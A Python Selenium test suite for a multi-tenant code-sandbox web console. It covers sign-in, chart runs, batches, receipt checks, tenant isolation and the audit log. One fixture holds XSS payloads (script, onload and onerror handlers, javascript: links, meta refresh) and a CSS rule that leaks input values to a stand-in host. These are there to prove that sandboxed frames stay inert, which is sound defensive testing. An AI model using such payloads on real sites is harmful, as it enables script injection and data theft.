"""The console in a real browser: Debian's Chromium, headless, driven by Selenium through
Debian's chromium-driver, against a live `hazmat serve` on the real engine. A tenant signs in
with its key, runs a chart in the playground, opens it from the runs, watches a batch fill in
and checks one of its receipts; a program's HTML and SVG stay inert in their sandboxed frames;
another tenant's ids are refused; an operator verifies the audit log. Screenshots of the main
pages are kept in `$HAZMAT_ARTIFACTS` (default `build/artifacts/`), under `console/`."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hazmat.service.tenant_keys import KeyStore
from server_helpers import LiveServer

pytestmark = pytest.mark.docker

ROOT = Path(__file__).resolve().parents[2]
WAIT_S = 60  # the longest a page may take to show what a step waits for
CHART = """\
import matplotlib.pyplot as plt
plt.figure(figsize=(4, 2.5))
plt.plot([1, 2, 3, 4], [3, 1, 4, 1])
plt.title("from the sandbox")
print("charted")
"""
# what a program's display tries against the page that shows it: scripts, an SVG's onload, a
# refresh to elsewhere, a `javascript:` link, CSS that would fetch a URL per matching input
HOSTILE = """\
class Page:
    def _repr_html_(self):
        return (
            '<meta http-equiv="refresh"'
            ' content="0; url=javascript:parent.document.body.dataset.pwned=1">'
            '<script>document.body.dataset.ran = "1"; parent.document.body.dataset.pwned = "1";'
            'top.location = "javascript:alert(1)";</script>'
            '<svg onload="parent.document.body.dataset.pwned = 1"><circle r="5"/></svg>'
            '<img src="x" onerror="parent.document.body.dataset.pwned = 1">'
            '<style>input[value^="h"] { background: url("http://127.0.0.1:9/leak") }</style>'
            '<a id="js" href="javascript:parent.document.body.dataset.pwned = 1">click</a>'
            '<p id="shown">hostile page shown</p>'
        )
Page()
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    chromium, driver_path = shutil.which("chromium"), shutil.which("chromedriver")
    if chromium is None or driver_path is None:
        pytest.fail(
            "no chromium or chromedriver: `make test` installs them (scripts/ensure-browser.sh)"
        )
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=1280,1000"):
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(driver_path), options=options)
    try:
        yield driver
    finally:
        driver.quit()


@pytest.fixture(scope="module")
def operator_key(live_server: LiveServer) -> str:
    return KeyStore(live_server.keys_path).create("ops", "trusted", operator=True)[1]


def artifacts() -> Path:
    folder = Path(os.environ.get("HAZMAT_ARTIFACTS") or ROOT / "build" / "artifacts") / "console"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def shot(driver: Any, name: str) -> None:
    driver.save_screenshot(str(artifacts() / f"{name}.png"))


def wait_for(driver: Any, css: str, text: str | None = None) -> Any:
    """The element at `css` once it is there (and shows `text`)."""
    from selenium.common.exceptions import TimeoutException
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as seen
    from selenium.webdriver.support.ui import WebDriverWait

    located = (By.CSS_SELECTOR, css)
    shown = seen.visibility_of_element_located(located)
    condition = seen.text_to_be_present_in_element(located, text) if text else shown
    try:
        WebDriverWait(driver, WAIT_S).until(condition)
    except TimeoutException:  # what the page showed instead, kept beside the screenshots
        shot(driver, "failed")
        (artifacts() / "failed.html").write_text(driver.page_source)
        logs = driver.get_log("browser")
        raise AssertionError(f"no {css!r}{f' with {text!r}' if text else ''}: {logs}") from None
    return driver.find_element(*located)


def sign_in(driver: Any, server: LiveServer, key: str, tenant: str) -> None:
    driver.get(f"{server.url}/console")
    driver.execute_script("sessionStorage.clear()")
    driver.get(f"{server.url}/console")
    wait_for(driver, "#key").send_keys(key)
    driver.find_element("css selector", "#signin button").click()
    wait_for(driver, "#tenant", tenant)


def play(driver: Any, code: str, image: str = "") -> Any:
    """Run `code` in the playground (in `image`); the run's page once it is shown."""
    driver.find_element("css selector", "#nav-playground").click()
    area = wait_for(driver, "#playground textarea")
    driver.execute_script("arguments[0].value = arguments[1]", area, code)
    driver.find_element("css selector", "#playground input[name=image]").send_keys(image)
    driver.execute_script("document.getElementById('detail').replaceChildren()")
    driver.find_element("css selector", "#playground button").click()
    return wait_for(driver, "#run-outcome")


def test_a_tenant_runs_a_chart_and_finds_it_among_its_runs(
    live_server: LiveServer, browser: Any
) -> None:
    sign_in(browser, live_server, live_server.keys["untrusted"], "acme")
    assert play(browser, CHART, "python-data").text == "ok"
    assert wait_for(browser, "#stdout").text == "charted"
    chart = wait_for(browser, "img.display")
    assert chart.get_attribute("src").startswith("data:image/png;base64,")
    assert browser.execute_script("return arguments[0].naturalWidth", chart) > 0  # it decoded
    browser.execute_script("document.getElementById('run').scrollIntoView()")
    shot(browser, "run-with-chart")
    records = wait_for(browser, "#records", "run.finished").text
    assert "run.started" in records
    browser.find_elements("css selector", "#records .receipt-link")[-1].click()
    wait_for(browser, "#run-receipt .receipt button").click()
    assert "run.finished" in wait_for(browser, "#run-receipt #receipt-ok").text
    run_id = wait_for(browser, "#run").get_attribute("data-run")
    browser.find_element("css selector", "#nav-runs").click()
    link = wait_for(browser, f"#runs a[hx-get$='{run_id}']")
    shot(browser, "runs")
    browser.execute_script("document.getElementById('detail').replaceChildren()")
    link.click()
    assert wait_for(browser, "#run").get_attribute("data-run") == run_id


def test_a_programs_html_and_svg_cannot_touch_the_console(
    live_server: LiveServer, browser: Any
) -> None:
    from selenium.webdriver.common.by import By

    sign_in(browser, live_server, live_server.keys["untrusted"], "acme")
    assert play(browser, HOSTILE).text == "ok"
    frame = wait_for(browser, "iframe.display")
    assert frame.get_attribute("sandbox") == ""  # no scripts, no same origin, no navigation
    browser.switch_to.frame(frame)
    assert wait_for(browser, "#shown").text == "hostile page shown"  # shown, but inert:
    assert browser.execute_script("return document.body.dataset.ran") is None  # no script ran
    browser.find_element(By.ID, "js").click()  # a javascript: link does nothing either
    browser.switch_to.default_content()
    assert browser.execute_script("return document.body.dataset.pwned") is None
    assert browser.current_url == f"{live_server.url}/console"
    wait_for(browser, "iframe.display")  # the frame is still there: it did not navigate the page


def test_a_batch_fills_in_live_and_a_verdicts_receipt_checks(
    live_server: LiveServer, browser: Any, tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    lines = (ROOT / "examples" / "grading" / "tasks.jsonl").read_text().splitlines()
    tasks = [line for line in lines if json.loads(line)["language"] == "python"][:4]
    with live_server.client("untrusted") as client:
        made = client.post(
            "/v1/batches?jobs=1",
            content="\n".join(tasks),
            headers={"Content-Type": "application/x-ndjson"},
        )
    assert made.status_code == 202, made.text
    bid = made.json()["id"]
    sign_in(browser, live_server, live_server.keys["untrusted"], "acme")
    browser.find_element("css selector", "#nav-batches").click()
    wait_for(browser, f"#batches a[hx-get$='{bid}']").click()
    first = wait_for(browser, "#batch").get_attribute("data-state")
    shot(browser, "batch-in-progress" if first == "running" else "batch")
    # the page asks again every second while the batch runs: no click until it is done
    wait_for(browser, "#batch-state", "done")
    assert wait_for(browser, "#batch-done").text == f"{len(tasks)} of {len(tasks)}"
    shot(browser, "batch-done")
    wait_for(browser, "#tasks .receipt-link").click()
    receipt = wait_for(browser, ".receipt textarea").get_attribute("value")
    wait_for(browser, ".receipt button").click()
    assert "The receipt verifies" in wait_for(browser, "#receipt-ok").text
    # the same receipt as a file given to the audit page: it verifies; changed, it does not
    assert "accepted" in receipt  # the first task's verdict, which the forgery changes
    for name, text, verdict in (
        ("receipt.json", receipt, "#receipt-ok"),
        ("forged.json", receipt.replace("accepted", "rejected"), "#receipt-bad"),
    ):
        path = tmp_path / name
        path.write_text(text)
        browser.find_element("css selector", "#nav-audit").click()
        wait_for(browser, "#receipt-file").send_keys(str(path))
        WebDriverWait(browser, WAIT_S).until(
            lambda d: '"receipt"' in d.find_element(By.ID, "receipt-text").get_attribute("value")
        )
        browser.find_element("css selector", "#check button").click()
        wait_for(browser, f"#checked {verdict}")
    shot(browser, "receipt-checked")


def test_another_tenants_ids_are_refused_like_ids_that_never_were(
    live_server: LiveServer, browser: Any
) -> None:
    sign_in(browser, live_server, live_server.keys["untrusted"], "acme")
    play(browser, 'print("mine")')
    run_id = wait_for(browser, "#run").get_attribute("data-run")
    sign_in(browser, live_server, live_server.keys["trusted"], "trusty")
    assert run_id not in wait_for(browser, "#main").text
    for asked in (run_id, "r-0000000000000000"):
        browser.execute_script(
            "htmx.ajax('GET', arguments[0], '#detail')", f"/console/f/runs/{asked}"
        )
        refused = wait_for(browser, "#detail .error")
        assert refused.get_attribute("data-status") == "404"
        assert refused.text == f"404 RunNotFound: no run '{asked}'"
        browser.execute_script("document.getElementById('detail').replaceChildren()")


def test_sessions_and_keys_show_without_secrets(live_server: LiveServer, browser: Any) -> None:
    with live_server.client("untrusted") as client:
        opened = client.post("/v1/sessions", json={"language": "python"})
        assert opened.status_code == 201, opened.text
        sid = opened.json()["id"]
        assert client.post(f"/v1/sessions/{sid}/runs", json={"code": "x = 1"}).status_code == 200
        try:
            sign_in(browser, live_server, live_server.keys["untrusted"], "acme")
            browser.find_element("css selector", "#nav-sessions").click()
            row = wait_for(browser, "#sessions tbody tr", sid)
            assert row.text.split()[:2] == [sid, "python"]
            shot(browser, "sessions")
            row.find_element("css selector", ".calls-link").click()  # its calls, as runs
            assert len(wait_for(browser, "#runs tbody").find_elements("css selector", "tr")) == 1
            browser.find_element("css selector", "#nav-tenants").click()
            keys = wait_for(browser, "#keys", "acme").text
        finally:
            client.delete(f"/v1/sessions/{sid}")
    assert "trusty" not in keys  # a tenant sees its own key only
    assert live_server.keys["untrusted"].split("_", 2)[2] not in browser.page_source


def test_an_operator_sees_every_tenant_and_verifies_the_audit_log(
    live_server: LiveServer, browser: Any, operator_key: str
) -> None:
    with live_server.client("trusted") as client:
        assert client.post("/v1/runs", json={"code": "print(2)"}).status_code == 200
    sign_in(browser, live_server, operator_key, "ops")
    assert wait_for(browser, "#operator").text == "operator"
    runs = wait_for(browser, "#runs").text
    assert "acme" in runs and "trusty" in runs
    browser.find_element("css selector", "#nav-metrics").click()
    assert int(wait_for(browser, "#metrics-total").text) >= 5  # every test's runs so far
    for chart in ("outcomes", "latency", "pool"):  # drawn by uPlot, in the page's own script
        wait_for(browser, f"#chart-{chart} canvas")
    shot(browser, "metrics")
    browser.find_element("css selector", "#nav-tenants").click()
    keys = wait_for(browser, "#keys", "trusty").text
    assert "acme" in keys and "operator" in keys
    browser.find_element("css selector", "#nav-audit").click()
    wait_for(browser, "#verify").click()
    report = wait_for(browser, "#report")
    assert report.get_attribute("data-verdict") == "intact", report.text
    shot(browser, "audit")
    assert any(r["kind"] == "console.operator" for r in live_server.audit_records())
